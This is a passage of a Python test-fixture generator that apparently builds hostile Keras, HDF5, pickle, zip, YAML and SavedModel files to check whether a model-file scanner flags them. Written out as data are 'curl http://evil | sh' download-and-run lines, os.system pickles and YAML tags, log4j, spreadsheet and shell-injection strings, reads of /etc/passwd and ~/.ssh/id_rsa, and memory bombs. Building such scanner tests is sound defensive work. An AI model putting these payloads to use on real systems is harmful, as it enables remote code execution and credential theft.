"""Hostile files of further kinds again, after audits report whatever is not known to be harmless: two batches, each tried once.

Made from public reports (advisories of Keras, TensorFlow, h5py, zip and pickle scanners) and an attacker's eye. Flagged when first
tried: 249 of 314, and 162 of 204. Nothing here is loaded by Keras or unpickled, and no payload is called.
"""

# ruff: noqa: E501
from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import struct
import tarfile
import types
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

import hostile as H
from hostile import (
    Make,
    as_bytes,
    as_h5,
    as_json,
    as_keras,
    field,
    keras_zip,
    lambda_layer,
    layer,
    pickled,
    sequential,
    stored,
    thing,
    weights,
)
from hostile_further import as_folder, mine

# fmt: off
LAMBDAS = r"""
patch_module: exec("")\nimport keras
store_attr: import tensorflow as tf; tf.nn.relu = x
store_global: global func_load; func_load = x
store_numpy: np.add = x
del_attr: del np.add
forever: while True: pass
memory: [0] * 10**11
text_memory: "a" * 2**40
counting: list(range(10**13))
bytes_memory: bytearray(10**13)
zeros: tf.zeros([10**6, 10**7])
exits: raise SystemExit
interrupts: raise KeyboardInterrupt
terminal: print("\x1b]52;c;cm0gLXJmIC8=\x07")
sleeps: import time; time.sleep(10**7)
session: K.get_session().run("evil/op")
resets: K.clear_session()
graph: tf.compat.v1.get_default_graph().create_op("WriteFile", [], [])
import_graph: tf.import_graph_def(b"abc")
graph_of_value: x.graph.as_graph_def().SerializeToString()
disable: tf.compat.v1.disable_v2_behavior()
eager: tf.config.run_functions_eagerly(True)
scope: keras.utils.custom_object_scope({"a": x})
objects: keras.utils.get_custom_objects().clear()
flags: tf.compat.v1.flags.FLAGS(["x"])
register: keras.saving.register_keras_serializable()(x)
metaclass: type("A", (dict,), {"__init__": lambda self: x})()
format_map: "{a.__init__.__globals__}".format_map({"a": x})
percent: "%(a)s" % x.__dict__
hash_bomb: hash("a" * 10**12)
power: pow(7, 10**9)
shift: 1 << 10**12
codecs: codecs.decode("pheyr", "rot13")
python_types: python_types.FunctionType(x, {})
marshal_global: marshal.loads(b"x")
six: six.exec_("1")
reduce_import: functools.reduce(getattr, ["a", "b"], x)
attrgetter: operator.attrgetter("a.b")(x)
string_formatter: string.Formatter().format("{0}", x)
random_os: random._os.system("id")
typing: typing.get_type_hints(x)
collections: collections.namedtuple("A", "b")
json_codecs: json.codecs.open("/tmp/c", "w")
statistics: statistics.sys.exit()
contextlib: contextlib.os.system("id")
tf_python: tf.python.framework.ops.get_default_graph()
np_lib: np.lib.utils.safe_eval("1")
np_poly: np.lib.npyio.NpzFile("/tmp/x")
np_test: np.test()
tf_test: tf.test.main()
tf_internal: tf.__internal__.tracking.load("x")
jax_config: jax.config.update("jax_debug_nans", True)
jax_dump: jax.experimental.serialize_executable.deserialize_and_load(x)
jax_ffi: jax.ffi.register_ffi_target("a", x)
torch_compile: torch.compile(x)
torch_jit: torch.jit.load("x.pt")
keras_export: x.export("/tmp/c")
keras_save: x._keras_history.operation.save("/tmp/c")
keras_get: keras.utils.get_registered_object("a")
theano: theano.function([x], x, mode="evil")
theano_gof: theano.gof.cmodule.dlimport("/tmp/e.so")
cntk: K.C.load_model("/tmp/x")
sys_modules: K.sys.modules["os"].system("x")
backend_module: K.importlib.import_module("os")
warn: warnings.sys.modules
walrus: (y := __builtins__) and y["eval"]("1")
star: [*open("/etc/hostname")]
decode_exec: (lambda f: f("1"))(eval)
super_attr: super(type(x), x).__getattribute__("a")
yield_from: (yield from x.__class__.__subclasses__())
assert_open: assert open("/tmp/c")
matchcode: x.f_code
with_open: with open("/tmp/c", "w") as f: f.write("x")
try_import: __import__("o" + "s")
chained: np.load.__globals__["os"].system("id")
kwdefaults: np.sum.__kwdefaults__
wrapped: tf.nn.relu.__wrapped__.__globals__["sys"]
closure_np: np.vectorize.__init__.__globals__
module_dict: np.__dict__["load"]("/etc/x.npy", allow_pickle=True)
getitem_np: vars(np)["load"]
"""
STRINGS = """shutil.rmtree posix.system webbrowser.open keras.utils.get_file keras.saving.load_model eval __import__ exec
os.system('id') my.module:function ../../evil http://evil/f.py lambda:0 tf.io.read_file""".split()  # noqa: SIM905
TRAINED: dict[str, Any] = {
    "loss": "shutil.rmtree", "optimizer": {"class_name": "shutil.rmtree", "config": {"path": "/tmp/x"}}, "metrics": ["posix.system"],
    "weighted_metrics": [{"class_name": "evil.module", "config": {}}],
    "optimizer_config": {"class_name": "eval", "config": {"source": "1"}},
}
CONFIGS: dict[str, Any] = {
    **{f"activation_{at}": sequential(mine("Dense", {"units": 2, "activation": text})) for at, text in enumerate(STRINGS)},
    "kwargs_path": sequential(layer("Dense", {"name": "d", "units": 1}, inbound_nodes=[{"args": [], "kwargs": {"inputs": "/tmp/evil.keras"}}])),
    "kwargs_url": sequential(layer("Dense", {"name": "d", "units": 1}, inbound_nodes=[{"args": ["https://evil/x"], "kwargs": {}}])),
    "set_attribute": sequential(thing("keras.src.backend.common.global_state", "function", "set_global_attribute", "function")),
    "as_function": sequential({"module": "mypackage.tools", "class_name": "function", "config": "cleanup", "registered_name": "cleanup"}),
    "own_function_layer": sequential({"module": "builtins", "class_name": "function", "config": "relu", "registered_name": "function"}),
    "class_list": sequential({"class_name": ["os", "system"], "module": "os", "config": {}}),
    "class_dict": sequential({"class_name": {"class_name": "Dense"}, "module": "keras.layers", "config": {}}),
    "module_list": sequential({"class_name": "Dense", "module": ["os"], "config": {}}),
    "module_space": sequential(thing("os ", "system", {})), "module_case": sequential(thing("OS", "system", {})),
    "module_dots": sequential(thing("keras..os", "system", {})), "module_slash": sequential(thing("keras/../os", "system", {})),
    "module_null": sequential(thing("keras\0os", "system", {})), "module_cyrillic": sequential(thing("kеras.layers", "Dense", {"units": 1})),
    "class_cyrillic": sequential(thing("keras.layers", "Dеnse", {"units": 1})), "private": sequential(thing("keras.layers", "__loader__", {})),
    "installed": sequential(thing("evilpkg.sub", "Loader", {"cmd": "id"})), "main": sequential(thing("__main__", "run_all", {})),
    "policy": sequential(mine("Dense", {"units": 1, "dtype": thing("evilpkg.policies", "Policy", {"name": "x"})})),
    "quantization": sequential(mine("Dense", {"units": 1, "quantization_config": thing("evilpkg", "Q", {})})),
    "schedule": {**sequential(), "compile_config": {"optimizer": thing("keras.optimizers", "Adam", {"learning_rate": thing("evilpkg", "s", {})})}},
    "registered_os": {**sequential(), "compile_config": {"optimizer": thing(None, "Adam", {}, "os>system")}},  # type: ignore[arg-type]
    "units": sequential(mine("Dense", {"units": 2**40})), "embedding": sequential(mine("Embedding", {"input_dim": 10**12, "output_dim": 8})),
    "batch_shape": sequential(layer("InputLayer", {"name": "i", "batch_shape": [None, 10**6, 10**6]})),
    "target_shape": sequential(mine("Reshape", {"target_shape": [2**20, 2**20]})), "repeat": sequential(mine("RepeatVector", {"n": 10**15})),
    "padding": sequential(mine("ZeroPadding1D", {"padding": [10**12, 1]})), "upsampling": sequential(mine("UpSampling2D", {"size": [10**6, 10**6]})),
    "negative": sequential(mine("Dense", {"units": -(2**63)})), "dtype_text": sequential(mine("Dense", {"units": 1, "dtype": "S1000000000"})),
    "dtype_object": sequential(mine("Dense", {"units": 1, "dtype": "object"})), "dtype_void": sequential(mine("Dense", {"units": 1, "dtype": "V99999999"})),
    "constant": '{"module": "keras", "class_name": "Sequential", "config": {"value": 1e999, "layers": []}}',
    "nan": '{"module": "keras", "class_name": "Sequential", "config": {"value": NaN, "layers": []}}',
    "comment": '{/* x */ "module": "keras", "class_name": "Sequential", "config": {"layers": []}}',
    "twice": '{"module": "keras", "class_name": "Sequential", "class_name": "Functional", "config": {"layers": []}}',
    "surrogate": '{"module": "keras", "class_name": "Sequential", "config": {"name": "\\ud800", "layers": []}}',
    "trailing": json.dumps(sequential()) + "\n__import__('os').system('id')", "html": sequential(layer("Dense", {"name": "<img src=x onerror=alert(1)>", "units": 1})),
    "shell": sequential(layer("Dense", {"name": "a;curl evil|sh", "units": 1})), "backtick": sequential(layer("Dense", {"name": "`id`", "units": 1})),
    "spreadsheet": sequential(layer("Dense", {"name": "=cmd|'/c calc'!A1", "units": 1})), "template": sequential(layer("Dense", {"name": "{{config}}", "units": 1})),
    "log4j": sequential(layer("Dense", {"name": "${jndi:ldap://evil/a}", "units": 1})), "long": sequential(layer("Dense", {"name": "a" * 100_000, "units": 1})),
    "bell": sequential(layer("Dense", {"name": "a\x07b", "units": 1})), "zero_width": sequential(layer("Dense", {"name": "den\u200bse", "units": 1})),
    "code_text": sequential(mine("Dense", {"units": 1, "note": "__import__('os').system('id')"})),
    "code_lambda": sequential(mine("Lambda", {"function": "lambda x: open('/tmp/c', 'w')", "function_type": "raw"})),
    "pickle_text": sequential(mine("Dense", {"units": 1, "state": base64.b64encode(pickled("os", "system", 4)).decode()})),
    "elf_text": sequential(mine("Dense", {"units": 1, "state": base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(64)).decode()})),
    "arguments": sequential(lambda_layer(stored(lambda x, command: x), arguments={"command": "curl http://evil | sh"})),
    "vocabulary_relative": sequential(mine("StringLookup", {"vocabulary": "secrets.txt"})), "weights": sequential(mine("Embedding", {"input_dim": 2, "output_dim": 2, "weights": "/etc/passwd"})),
    "spiece": sequential(thing("keras_hub.src.tokenizers.sentence_piece_tokenizer", "SentencePieceTokenizer", {"proto": "../x.model"})),
    "preset": sequential(thing("keras_hub.src.models.backbone", "Backbone", {"preset": "kaggle://evil/x"})),
    "feature_space": sequential(thing("keras.utils", "FeatureSpace", {"features": {"a": BAD} if (BAD := thing("evilpkg", "f", {})) else {}})),
    "raw_bytes": sequential(mine("Lambda", {"function": marshal.dumps(compile("__import__('os')", "", "eval")).decode("latin-1"), "function_type": "lambda"})),
    "newlines": sequential(lambda_layer({"class_name": "__lambda__", "config": {"code": "\n".join(H.encode(lambda x: exec("1"))), "defaults": None, "closure": None}})),
    "tampered": sequential(lambda_layer({"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3" + bytes(64)).decode(), "defaults": None, "closure": None}})),
    "code_in_tuple": sequential(lambda_layer({"class_name": "__lambda__", "config": {"code": None, "defaults": None, "closure": None}})),
}

MISSED = set(
    """config-activation_12 config-nan config2-deep_lists file2-h5_enum file2-h5_filter file2-pickle_bytearray file2-pickle_frame
    folder_py folder-handler folder-sagemaker folder-setup folder2-conftest folder2-html graph-op_ParallelMapDataset h5-committed
    h5-compound h5-empty h5-vlen lambda-metaclass""".split()  # noqa: SIM905
)
"""Not flagged, since it runs nothing: plain pickles, a name that no loader resolves, tables and types of HDF5, programs and pages
beside the model that do nothing, a class whose method returns its input, an operation on data in memory."""


def source(text: str) -> Any:
    """A stored function with the body `text`, of statements or an expression."""
    lines = text.split("; ")
    try:
        compile(lines[-1], "", "eval")
        lines[-1] = f"return ({lines[-1]})"
    except SyntaxError:
        pass
    scope: dict[str, Any] = {}
    body = "\n    ".join(lines)
    exec(f"def f(x):\n    {body}", scope)  # defines it
    return stored(scope["f"])


def hide_in_tuple() -> Any:
    """A function of which another lies in a tuple of its constants."""
    code = (lambda x: x).__code__
    inner = compile("__import__('os').system('id')", "", "eval")
    function = types.FunctionType(code.replace(co_consts=(None, (1, (inner,)))), {})
    return stored(function)


def edit_zip(data: bytes, change: Callable[[list[tuple[zipfile.ZipInfo, bytes]]], Any], comment: bytes = b"") -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        files = [(info, opened.read(info)) for info in opened.infolist()]
    change(files)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.comment = comment
        for info, content in files:
            target.writestr(info, content, info.compress_type)
    return out.getvalue()


def extra_field(files: list[tuple[zipfile.ZipInfo, bytes]]) -> None:
    info = files[0][0]
    name = b"../../evil.py"
    held = b"\1" + struct.pack("<I", zlib.crc32(info.filename.encode())) + name
    info.extra = struct.pack("<HH", 0x7075, len(held)) + held


def smuggle(files: list[tuple[zipfile.ZipInfo, bytes]]) -> None:
    files[0][0].extra = struct.pack("<HH", 0xCAFE, 600) + b"\x7fELF\x02\x01\x01\0" + bytes(592)


GOOD = keras_zip(sequential())
ZIPS: dict[str, bytes] = {
    "unicode_path": edit_zip(GOOD, extra_field), "extra_program": edit_zip(GOOD, smuggle),
    "comment": edit_zip(GOOD, lambda files: None, b"#!/bin/sh\ncurl http://evil | sh\n"),
    "bzip2": edit_zip(GOOD, lambda files: [setattr(i, "compress_type", zipfile.ZIP_BZIP2) for i, _ in files]),
    "lzma": edit_zip(GOOD, lambda files: [setattr(i, "compress_type", zipfile.ZIP_LZMA) for i, _ in files]),
    "setuid": edit_zip(GOOD, lambda files: [setattr(i, "external_attr", 0o104755 << 16) for i, _ in files]),
    "pdf": b"%PDF-1.4\n" + GOOD, "png": b"\x89PNG\r\n\x1a\n" + GOOD, "shebang": b"#!/usr/bin/env python3\n" + GOOD,
    "behind": GOOD + b"evil" * 9, "html": b"<html><script>1</script>" + GOOD,
    **{f"member_{name.replace('/', '_')}": keras_zip(sequential(), {name: content}) for name, content in {
        "__main__.py": b"import os", "assets/page.html": b"<script>alert(1)</script>", "assets/logo.svg": b"<svg onload='alert(1)'/>",
        "assets/x.url": b"[InternetShortcut]\nURL=file://evil", "assets/run.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!id"]}]}',
        "model.pt": b"x", "optimizer.bin": b"\x93\x11" * 40, "assets/vocabulary.pkl": H.pickled("os", "system", 2), "assets/e.npy": H._npy(pickled("os", "system", 2)),
        "assets/blob": bytes(range(256)) * 8, "config.json.bak": b"{}", "variables/variables.index": b"x", "assets/a.xlsm": b"PK", "data.yaml": b"!!python/object/apply:os.system ['id']",
        "assets/nested.keras": keras_zip(sequential(thing("os", "system", {}))), "model.weights.h5.so": b"x", "tokenizer.model": b"\x01\x02" * 90, "assets/e\u0301\u00e9.py": b"x",
        "assets/cover.png": b"\x89PNG\r\n\x1a\n" + bytes(40) + b"\x7fELF\x02\x01\x01\0\0" + bytes(64), "assets/words.txt": b"\x7fELF\x02\x01\x01" + bytes(64),
    }.items()},
}


def npy(header: str, data: bytes = b"") -> bytes:
    text = header.encode() + b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(text)) + text + data


def npz(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in files.items():
            target.writestr(name.replace("__", "."), data)
    return out.getvalue()


def h5_file(change: Callable[[h5py.File], Any], before: int = 0) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w", userblock_size=before) as file:
        file.attrs["model_config"] = json.dumps(H.legacy(sequential()))
        file.create_group("model_weights")
        change(file)
    return out.getvalue()


def set_attribute(name: str, value: Any) -> Callable[[h5py.File], Any]:
    return lambda file: file.attrs.__setitem__(name, value)


def dataset(data: Any, **options: Any) -> Callable[[h5py.File], Any]:
    return lambda file: file.create_dataset("model_weights/d/kernel:0", data=data, **options)


ELF = np.frombuffer(bytes(64) + b"\x7fELF\x02\x01\x01\0" + bytes(56), np.float32)


def loop(file: h5py.File) -> None:
    file["model_weights/again"] = file["model_weights"]


def deep(file: h5py.File) -> None:
    group = file
    for _ in range(300):
        group = group.create_group("a")


HDF5: dict[str, bytes] = {
    "elf_array": h5_file(dataset(ELF)), "elf_compressed": h5_file(dataset(np.tile(ELF, 9), compression="gzip", chunks=(32,))),
    "pickle_array": h5_file(dataset(np.frombuffer(pickled("os", "system", 4).ljust(64, b"\0"), np.uint8))),
    "script_array": h5_file(dataset(np.frombuffer(b"\0\0\0\0#!/bin/bash -c id".ljust(64), np.int8))),
    "reference": h5_file(lambda file: file.create_dataset("r", (2,), h5py.ref_dtype)), "region": h5_file(lambda file: file.create_dataset("r", (2,), h5py.regionref_dtype)),
    "opaque": h5_file(dataset(np.zeros(4, "V16"))), "compound": h5_file(dataset(np.zeros(4, [("a", "f4"), ("b", "i8")]))),
    "vlen": h5_file(lambda file: file.create_dataset("v", (2,), h5py.vlen_dtype(np.float32))), "lzf": h5_file(dataset(np.zeros(400, np.float32), compression="lzf")),
    "scaleoffset": h5_file(dataset(np.arange(400), scaleoffset=4)), "soft": h5_file(lambda file: file.__setitem__("s", h5py.SoftLink("/etc/passwd"))),
    "loop": h5_file(loop), "deep": h5_file(deep), "bomb": h5_file(lambda file: file.create_dataset("b", (2**36,), np.float64, fillvalue=1.0)),
    "behind": h5_file(lambda file: None) + b"#!/bin/sh\nid\n", "userblock": b"#!/bin/sh\nid\n".ljust(512, b"#") + h5_file(lambda file: None, 512)[512:],
    "training": h5_file(set_attribute("training_config", json.dumps(TRAINED))), "callbacks": h5_file(set_attribute("training_config", json.dumps({"callbacks": [{"class_name": "evil.Callback", "config": {}}]}))),
    "second": h5_file(lambda file: file["model_weights"].attrs.__setitem__("model_config", json.dumps(H.legacy(sequential(lambda_layer(source("eval('1')"))))))),
    "version": h5_file(set_attribute("keras_version", "\x1b[2J2.0")), "names": h5_file(lambda file: file["model_weights"].attrs.__setitem__("layer_names", [b"../../x"])),
    "weight_names": h5_file(lambda file: file["model_weights"].attrs.__setitem__("weight_names", [b"/etc/passwd"])), "control": h5_file(lambda file: file.create_group("a\x1b[2J")),
    "text_array": h5_file(dataset([b"import os; os.system('id')"])), "config_array": h5_file(lambda file: file.create_dataset("c", data=json.dumps(sequential(thing("os", "system", {}))))),
    "committed": h5_file(lambda file: file.__setitem__("t", np.dtype("f4"))), "empty": h5_file(lambda file: file.create_dataset("e", data=h5py.Empty("f4"))),
    "python_attribute": h5_file(set_attribute("custom_objects", "__import__('os').system('id')")), "pickle_attribute": h5_file(set_attribute("optimizer", np.void(pickled("os", "system", 4)))),
}


def node(name: str, op: str, **attributes: bytes) -> bytes:
    held = b"".join(field(5, field(1, key.encode()) + field(2, value)) for key, value in attributes.items())
    return field(1, field(1, name.encode()) + field(2, op.encode()) + held)


def text_constant(name: str, text: bytes) -> bytes:
    return node(name, "Const", dtype=b"\x30\x07", value=field(8, b"\x08\x07" + field(8, text)))


def library(*names: str, body: str = "") -> bytes:
    return field(2, b"".join(field(1, field(1, field(1, name.encode())) + field(3, field(1, b"n") + field(2, (body or name).encode()))) for name in names))


def saved_model(graph: bytes, **files: bytes) -> dict[str, Any]:
    pb = b"\x08\x01" + field(2, field(1, field(4, b"serve")) + field(2, graph))
    return {"saved_model.pb": pb, **{name.replace("__", "/").replace("_dot_", "."): data for name, data in files.items()}}


OPS = """MyCustomOp Zombie>Evil QuantizedMul QuantizedBatchNormWithGlobalNormalization SdcaOptimizer BoostedTreesCreateEnsemble StageClear
MapStage Barrier FIFOQueueV2 QueueDequeueV2 GetSessionTensor DeleteSessionTensor XlaCustomCall CollectiveGather OneShotIterator
TensorSummaryV2 BatchFunction SymbolicGradient DebugNumericSummaryV2 TPUExecute SleepDataset ParallelMapDataset CompositeTensorVariantToComponents
DecodeProtoV2 _Send _Recv Abort RaggedTensorToVariantX TfLiteSubgraphExecute ConfigureDistributedTPU""".split()  # noqa: SIM905
GRAPHS: dict[str, dict[str, Any]] = {
    **{f"op_{name.replace('>', '_')}": saved_model(node("n", name)) for name in OPS},
    "path": saved_model(text_constant("p", b"/etc/passwd")), "url": saved_model(text_constant("p", b"gs://evil/x")),
    "save": saved_model(text_constant("p", b"/home/user/.bashrc") + node("s", "SaveV2")), "home": saved_model(text_constant("p", b"~/.ssh/id_rsa")),
    "recursive": saved_model(library("f", body="f") + node("n", "f")), "in_library": saved_model(library("f", body="MyOp") + node("n", "f")),
    "asset": saved_model(node("n", "NoOp"), assets_dot_extra__lib_dot_so=b"\x7fELF\x02\x01\x01" + bytes(50)),
    "fingerprint": saved_model(node("n", "NoOp"), fingerprint_dot_pb=b"\x7fELF\x02\x01\x01\0" + bytes(64)),
    "data_program": saved_model(node("n", "NoOp"), **{"variables__variables_dot_data-00000-of-00001": bytes(64) + b"\x7fELF\x02\x01\x01\0" + bytes(64)}),
    "index": saved_model(node("n", "NoOp"), variables__variables_dot_index=b"not a table"), "cut": {"saved_model.pb": saved_model(node("n", "NoOp"))["saved_model.pb"][:-3]},
    "pbtxt": {"saved_model.pbtxt": b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "n" op: "MyCustomOp" } } }'},
    "empty": {"saved_model.pb": b"\x08\x01"}, "huge_constant": saved_model(node("c", "Const", value=field(8, b"\x08\x01" + field(2, field(2, b"\x08" + b"\x80\x80\x80\x80\x80\x10"))))),
    "print": saved_model(node("p", "PrintV2", output_stream=field(2, b"file:///tmp/x"))), "pickle_constant": saved_model(text_constant("p", pickled("os", "system", 4))),
}
FOLDERS: dict[str, dict[str, Any]] = {
    "handler": {"handler.py": b"import os", "model.keras": GOOD}, "sagemaker": {"code/inference.py": b"import os", "model.keras": GOOD}, "setup": {"setup.py": b"import os", "model.keras": GOOD},
    "gitmodules": {".gitmodules": b'[submodule "x"]\nurl = ext::sh -c id', "model.keras": GOOD}, "gitattributes": {".gitattributes": b"* filter=evil", "model.keras": GOOD},
    "workflow": {".github/workflows/a.yml": b"jobs:\n  a:\n    steps:\n    - run: curl http://evil | sh\n", "model.keras": GOOD},
    "dockerfile": {"Dockerfile": b"FROM x\nRUN curl http://evil | sh\n", "model.keras": GOOD}, "condarc": {".condarc": b"channels: [http://evil]", "model.keras": GOOD},
    "jinja": {"tokenizer_config.json": b'{"chat_template": "{{ \'\'.__class__.__mro__[1].__subclasses__() }}"}', "model.keras": GOOD},
    "task": {"task.json": json.dumps(thing("evilpkg.task", "run", {})).encode(), "model.weights.h5": weights()}, "preprocessor": {"preprocessor_config.json": b'{"auto_map": {"AutoProcessor": "x--y.Z"}}', "model.keras": GOOD},
    "desktop": {"desktop.ini": b"[.ShellClassInfo]\nIconResource=\\\\evil\\x", "model.keras": GOOD}, "autorun": {"autorun.inf": b"[autorun]\nopen=x.exe", "model.keras": GOOD},
    "makefile": {"Makefile": b"all:\n\tcurl http://evil | sh\n", "model.keras": GOOD}, "settings": {".vscode/settings.json": b'{"python.defaultInterpreterPath": "./evil"}', "model.keras": GOOD},
    "tfjs_path": {"model.json": json.dumps({"modelTopology": {}, "weightsManifest": [{"paths": ["../../../etc/passwd"], "weights": []}]}).encode()},
    "tfjs_script": {"model.json": json.dumps({"generatedBy": "<script>alert(1)</script>", "modelTopology": {}, "weightsManifest": []}).encode()},
    "precommit": {".pre-commit-config.yaml": b"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c 'curl http://evil | sh'\n", "model.keras": GOOD}, "envrc": {".envrc": b"export X=1\ncurl evil|sh", "model.keras": GOOD},
    "checkpoint": {"checkpoint": b'model_checkpoint_path: "/etc/shadow"\n', "model.keras": GOOD}, "bin": {"pytorch_model.bin": b"PK\3\4" + bytes(64), "model.keras": GOOD},
}
OTHERS: dict[str, tuple[str, bytes]] = {
    "seven_zip": (".keras", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(64)), "rar": (".h5", b"Rar!\x1a\x07\1\0" + bytes(64)), "unknown": (".keras", bytes(range(256)) * 4), "protocol6": (".pkl", b"\x80\x06cos\nsystem\n."),
    "npz_bomb": (".npz", npz(a__npy=npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"))), "npy_fields": (".npy", npy("{'descr': [('a', 'O'), ('b', 'f4')], 'fortran_order': False, 'shape': (1,), }", pickled("os", "system", 2))),
    "npz_script": (".npz", npz(a__npy=npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4)), run__py=b"import os")), "npy_behind": (".npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4) + pickled("os", "system", 4))),
    "resolve": (".pkl", b"\x80\x04\x8c\x07pkgutil\x8c\x0cresolve_name\x93\x8c\x09os:system\x85R."), "inst": (".pkl", b"(S'id'\nios\nsystem\n."), "persid": (".pkl", b"\x80\x02U\x01aQ."),
    "junk": (".pkl", b"N0N0(lp0\n0cos\nsystem\n(S'id'\ntR."), "broken": (".pkl", b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85Rzzzz"), "pop": (".pkl", b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R0N."),
    "nested": (".pkl", b"\x80\x04C" + bytes([len(SYSTEM)]) + SYSTEM + b".") if (SYSTEM := pickled("os", "system", 4)) else ("", b""), "f2py": (".pkl", b"cnumpy.f2py.crackfortran\nmyeval\n(S'1'\ntR."), "guards": (".pkl", b"ctorch._dynamo.guards\nGuardBuilder.get\n(S'1'\ntR."),
    "keras_load": (".pkl", b"ckeras.src.saving.saving_lib\nload_model\n(S'/tmp/x'\ntR."), "simple": (".pkl", b"ctypes\nSimpleNamespace\n)R."), "zlib": (".joblib", zlib.compress(pickled("os", "system", 4))),
    "module_tag": (".yaml", b"class_name: Sequential\nconfig: !!python/module:os {}\n"), "verbatim": (".yaml", b"class_name: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n"), "include": (".yaml", b"class_name: Sequential\nconfig: !include /etc/passwd\n"),
    "env": (".yaml", b"class_name: Sequential\nconfig: !ENV ${HOME}\n"), "laughs": (".yaml", b"a: &a [x,x]\n" + b"".join(b"%c: &%c [*%c,*%c,*%c]\n" % (c + 1, c + 1, c, c, c) for c in range(97, 118)) + b"class_name: *v\n"), "ruby": (".yaml", b"class_name: Sequential\nconfig: !ruby/object:Gem::Installer\n"),
    "frozen": (".pb", node("n", "MyCustomOp")), "frozen_path": (".pb", text_constant("p", b"/etc/passwd") + node("i", "Identity")), "meta": (".meta", field(2, node("n", "MyCustomOp"))),
}
# fmt: on


def batch(folder: Path) -> list[Path]:
    """The first batch."""
    makes: list[tuple[str, Make]] = [("code-tuple", as_keras(sequential(lambda_layer(hide_in_tuple()))))]
    for line in LAMBDAS.strip().splitlines()[1:]:
        name, _, text = line.partition(": ")
        makes.append((f"lambda-{name}", (as_h5 if len(name) % 2 else as_keras)(sequential(lambda_layer(source(text))))))
    for name, config in CONFIGS.items():
        makes.append((f"config-{name}", as_keras(config) if isinstance(config, str) or len(name) % 3 else as_json(config)))
    makes += [(f"zip-{name}", as_bytes(data, ".keras")) for name, data in ZIPS.items()]
    makes += [(f"h5-{name}", as_bytes(data, ".h5")) for name, data in HDF5.items()]
    makes += [(f"graph-{name}", as_folder(files)) for name, files in GRAPHS.items()]
    makes += [(f"folder-{name}", as_folder(files)) for name, files in FOLDERS.items()]
    makes += [(f"other-{name}", as_bytes(data, suffix)) for name, (suffix, data) in OTHERS.items()]
    for name, make in makes:
        make(folder / name)
    return sorted(folder.iterdir())


# -- the second batch, of kinds that neither the first nor the rules had in mind


def h5_bytes(change: Callable[[bytes], bytes]) -> bytes:
    return change(h5_file(dataset(np.arange(1000, dtype=np.float32), compression="gzip")))


def shadow(model: Any) -> bytes:
    """Two archives, one behind another."""
    return keras_zip(sequential()) + keras_zip(model)


def rename_central(data: bytes, old: bytes, new: bytes) -> bytes:
    at = data.rindex(old)
    return data[:at] + new + data[at + len(old) :]


def set_bits(data: bytes, offset: int, value: bytes, signature: bytes = b"PK\1\2") -> bytes:
    at = data.index(signature) + offset
    return data[:at] + value + data[at + len(value) :]


def tar_of(members: dict[str, bytes], **about: Any) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as target:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for key, value in about.items():
                setattr(info, key, value)
            target.addfile(info, io.BytesIO(data))
    return out.getvalue()


# fmt: off
SECOND_LAMBDAS = r"""
getattr_chain: getattr(getattr(np, "lib"), "np" + "yio")
operator_call: operator.call(print, x)
map_over: list(map(__import__, ["os"]))
dir_of: [n for n in dir(__builtins__) if n == "eval"]
code_new: (lambda: 0).__code__.__class__
file_name: __file__ and x
spec: __spec__.loader.load_module("os")
debug_assert: __debug__ and globals()
keras_version: keras.src.utils.file_utils.makedirs("/tmp/c")
keras_tree: keras.src.utils.io_utils.print_msg("x")
keras_viz: keras.utils.model_to_dot(x)
keras_summary: keras.utils.get_source_inputs(x)
tf_ckpt: tf.train.latest_checkpoint("/tmp")
tf_summary: tf.summary.scalar("a", x)
tf_saved: tf.saved_model.save(x, "/tmp/c")
tf_logging: tf.get_logger().addHandler(x)
tf_sysconfig: tf.sysconfig.get_lib()
tf_version_file: tf.__file__
tf_string_file: tf.strings.as_string(tf.io.read_file("/etc/passwd"))
tf_device: tf.device("/job:evil/task:0")
tf_queue: tf.queue.FIFOQueue(1, "float32").enqueue(x)
tf_barrier: tf.raw_ops.Barrier(component_types=["float32"])
tf_keras_io: tf.keras.preprocessing.image.array_to_img(x).save("/tmp/c.png")
tf_feature: tf.feature_column.categorical_column_with_vocabulary_file("a", "/etc/passwd")
tf_lookup: tf.lookup.TextFileInitializer("/etc/passwd", "string", 0, "int64", 1)
tf_contrib: tf.contrib.util.constant_value(x)
tf_estimator: tf.estimator.Estimator(x, "/tmp")
np_packbits: np.save.__wrapped__
np_char: np.char.array(["a"]).tofile("/tmp/c")
np_nditer: np.lib._datasource.open("http://evil/x")
np_load_txt: np.recfromcsv("/etc/passwd")
np_memory: np.zeros((10**7, 10**7))
np_info: np.info(x)
np_random_state: np.random.bytes(10**11)
jax_disk: jax.numpy.load("/tmp/x.npy")
jax_cache: jax.experimental.compilation_cache.compilation_cache.set_cache_dir("/tmp")
jax_debug: jax.debug.callback(print, x)
pil: PIL.Image.open("/etc/hostname")
base64_text: exec_("aW1wb3J0IG9z")
format_spec: "{:{}}".format(x, 10**11)
repeat_text: ("x" * 10**6) * 10**6
nested_list: [[0] * 10**6] * 10**6
recursion: (lambda f: f(f))(lambda f: f(f))
regex_bomb: re.match("(a+)+$", "a" * 64 + "b")
comp_bomb: [i for i in range(10**10)]
generator_sum: sum(i for i in range(10**12))
